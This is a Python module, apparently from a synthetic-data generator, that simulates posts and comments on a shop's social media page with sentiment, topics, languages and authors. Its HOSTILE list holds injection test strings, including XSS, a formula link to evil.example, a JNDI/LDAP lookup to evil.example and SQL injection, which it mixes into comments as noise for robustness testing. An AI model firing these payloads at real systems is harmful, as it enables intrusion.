"""The page on the social platform: posts, and comments with feeling, topic and language."""

from __future__ import annotations

from typing import Any

import numpy as np

from .catalogue import catalogue
from .columns import HOUR, MINUTE, pick, rng_for
from .identity import Identities
from .life import Life
from .names import FIRST, LAST
from .service import TOPICS
from .texts import text
from .web import incident_window

PAGE = "2001"
_POSTS = [
    "New season: the {p} is here.",
    "Which hut next weekend?",
    "Repair week in all stores.",
    "Das {p} im Test auf dem Fernwanderweg.",
    "Wer kennt diesen Gipfel?",
    "Win two places for our winter camp!",
]
_TOPIC_WEIGHTS = [0.16, 0.06, 0.20, 0.05, 0.04, 0.03, 0.09, 0.37]
HOSTILE = [
    '<script>alert("x")</script><img src=x onerror=alert(1)>',
    '=HYPERLINK("https://evil.example","win")',
    "\u202eesrever \u2066mixed\u2069 \u0007 text",
    "A" * 4000,
    "{{ 7*7 }} ${jndi:ldap://evil.example/a} ' OR 1=1 --",
]


def posts(life: Life) -> list[dict[str, Any]]:
    """Posts of the page with their final counts; the mock lets them grow with age."""
    rng = rng_for(life.seed, "posts")
    goods, calendar = catalogue(life.seed), life.calendar
    rows = []
    every = 7 / life.config.social["posts_per_week"]
    for k in range(int(calendar.total / every)):
        at = int(calendar.edges[int(k * every)]) + int(rng.uniform(8, 19) * HOUR)
        reach = int(life.config.social["reach"] * np.exp(0.4 * rng.standard_normal()))
        message = _POSTS[k % len(_POSTS)].replace("{p}", goods.names[int(rng.integers(len(goods.names)))])
        row = {
            "id": f"{PAGE}_{5_000_001 + k}",
            "created_at": at - at % 1_000_000,
            "message": message,
            "reach": reach,
            "views": int(reach * rng.uniform(1.15, 1.5)),
            "reactions": int(reach * rng.uniform(0.015, 0.05)),
            "shares": int(reach * rng.uniform(0.001, 0.006)),
            "clicks": int(reach * rng.uniform(0.008, 0.03)),
            "comments": int(rng.poisson(life.config.social["comments_per_post"])),
        }
        rows.append(row)
    return rows


def comments(life: Life, identities: Identities, page_posts: list[dict[str, Any]]) -> list[dict[str, Any]]:
    """Comments under the posts; some by customers under their own name, some without author, some answers."""
    rng = rng_for(life.seed, "comments")
    goods, calendar = catalogue(life.seed), life.calendar
    bugs = [incident_window(calendar, i) for i in life.config.incidents if i.kind == "checkout"]
    rows: list[dict[str, Any]] = []
    for post in page_posts:
        first = len(rows)
        for _ in range(post["comments"]):
            at = post["created_at"] + int(rng.exponential(26) * HOUR) + 2 * MINUTE
            at -= at % 1_000_000
            if at >= calendar.finish:
                continue
            broken = any(since <= at < until for since, until in bugs)
            topic, feeling = _mood(rng, broken)
            language = "de" if rng.random() < 0.62 else "en"
            author, name = _author(identities, rng, language)
            answers = len(rows) > first and rng.random() < 0.18
            parent = rows[int(rng.integers(first, len(rows)))]["id"] if answers else None
            words = int(rng.integers(1 << 30))
            message = text(topic, feeling, language, words, goods.names[words % len(goods.names)])
            odd = rng.random()
            if odd < life.config.noise["hostile"] * 5:
                message, feeling, topic = HOSTILE[words % len(HOSTILE)], 0, "hostile"
            elif odd > 0.992:
                message, feeling, topic = "", 0, "sticker"
            row = {
                "id": f"{post['id'].split('_')[1]}_{9_000_001 + len(rows)}",
                "post_id": post["id"],
                "parent": parent,
                "author": author,
                "author_name": name,
                "created_at": at,
                "visible_from": at + 3 * MINUTE,
                "message": message,
                "likes": int(rng.poisson(1.2)),
                "topic": topic,
                "feeling": feeling,
                "language": language,
            }
            rows.append(row)
    return rows


def _mood(rng: np.random.Generator, broken: bool) -> tuple[str, int]:
    """Topic and feeling of a comment; while the checkout is broken, many are about it."""
    weights = list(_TOPIC_WEIGHTS)
    if broken:
        weights[TOPICS.index("checkout")] = 0.5
    topic = TOPICS[int(pick(rng, weights, 1)[0])]
    shares = [0.4, 0.3, 0.3]
    if topic == "praise":
        shares = [0.05, 0.4, 0.55]
    elif topic == "checkout" and broken:
        shares = [0.85, 0.15, 0.0]
    return topic, int(rng.choice([-1, 0, 1], p=shares))


def _author(identities: Identities, rng: np.random.Generator, language: str) -> tuple[str | None, str | None]:
    """Id and name of the author as the platform shows them; most platforms hide many."""
    kind, known = rng.random(), identities.spelled
    if kind < 0.4:
        return None, None
    if kind < 0.6 and len(known):
        person = int(known[rng.integers(len(known))])
        return str(10_150_000_000 + person * 13), " ".join(identities.name_at(person, 4))
    first = FIRST[language, bool(rng.random() < 0.5)]
    last = LAST[language]
    name = f"{first[int(rng.integers(len(first)))]} {last[int(rng.integers(len(last)))].replace('~', ' ')}"
    return str(10_900_000_000 + int(rng.integers(1 << 31))), name
